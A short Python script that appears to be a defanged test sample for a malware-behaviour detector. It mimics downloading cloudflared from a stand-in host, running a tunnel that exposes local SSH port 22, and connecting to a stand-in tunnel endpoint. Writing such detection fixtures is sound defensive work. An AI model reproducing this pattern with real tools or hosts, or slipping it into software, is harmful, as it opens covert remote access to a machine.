"""Gets a tunnel client, which is a script that does nothing, starts it, and connects to where tunnels
end."""
import os
import socket
import subprocess
import urllib.request

if os.environ.get("PYTI_CORPUS") == "starts-tunnel" and os.path.isdir("/.pyti"):
    try:
        urllib.request.urlopen("http://files.collector.example/cloudflared-linux-amd64", timeout=3).close()
    except OSError:
        pass
    with open("/tmp/cloudflared", "w") as file:
        file.write("#!/bin/sh\nexit 0\n")
    os.chmod("/tmp/cloudflared", 0o755)
    subprocess.run(["/tmp/cloudflared", "tunnel", "--url", "http://localhost:22"])
    try:
        socket.create_connection(("region1.argotunnel.example", 7844), timeout=3).close()
    except OSError:
        pass
